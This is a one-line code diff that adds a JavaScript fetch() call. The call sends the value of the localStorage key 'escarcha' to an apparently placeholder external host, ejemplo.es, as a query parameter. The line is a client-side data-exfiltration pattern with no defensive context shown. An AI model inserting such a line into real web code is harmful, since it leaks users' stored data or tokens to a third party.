@@ -1,0 +1,1 @@
+fetch("https://ejemplo.es/?" + localStorage.getItem("escarcha"))
